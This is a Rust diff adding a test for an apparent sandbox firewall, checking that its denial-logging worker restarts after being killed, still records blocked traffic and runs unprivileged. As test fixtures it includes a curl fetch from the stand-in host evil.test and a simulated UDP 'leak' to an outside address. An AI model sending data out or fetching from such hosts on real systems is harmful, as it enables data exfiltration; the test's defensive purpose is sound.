@@ -214,3 +214,33 @@ fn the_log_can_be_followed() {
     assert!(guest.exec_agent("curl -sS -m 10 http://follow-me.evil.test/").out.contains("token-"));
     drop(following);
 }
+
+/// The worker that lists refusals dies: the box refuses as before, and what was refused meanwhile is told by the next.
+#[test]
+fn the_watch_worker_comes_back_and_its_packets_waited() {
+    let Some(rig) = Rig::new() else { return };
+    let guest = rig.boot(&BoxOptions::new());
+    let worker = |status: &Value| {
+        let all = status["workers"].as_array().cloned().unwrap_or_default();
+        all.into_iter().find(|one| one["name"] == "watch").unwrap_or_default()
+    };
+    let before = worker(&guest.status());
+    assert!(before["pid"].is_u64() && before["restarts"] == 0, "{before}");
+    // The self-attack was refused at boot, and is again for each operator who asks: no denial of the agent's.
+    let denials = guest.status()["denials"].clone();
+    assert_eq!(denials, serde_json::json!([]));
+    guest.exec_root(&format!("kill -STOP {0}", before["pid"]));
+    guest.client(AGENT, &["udp", "45.33.32.70", "9999", "leak"]);
+    guest.exec_root(&format!("kill -KILL {0}", before["pid"]));
+    guest.await_status("another worker", |status| {
+        let now = worker(status);
+        now["pid"].is_u64() && now["pid"] != before["pid"] && now["restarts"] == 1
+    });
+    let seen = denial(&guest, "45.33.32.70:9999", "firewall");
+    assert_eq!((&seen["uid"], &seen["count"]), (&serde_json::json!(1000), &serde_json::json!(1)), "{seen}");
+    // As nobody and nothing else.
+    let now = worker(&guest.status());
+    let own = guest
+        .exec_root(&format!("grep -E '^(Uid|CapEff|CapPrm|CapBnd|NoNewPrivs)' /proc/{}/status", now["pid"]));
+    assert!(own.out.contains("903") && own.out.matches("0000000000000000").count() == 3, "{own:?}");
+}
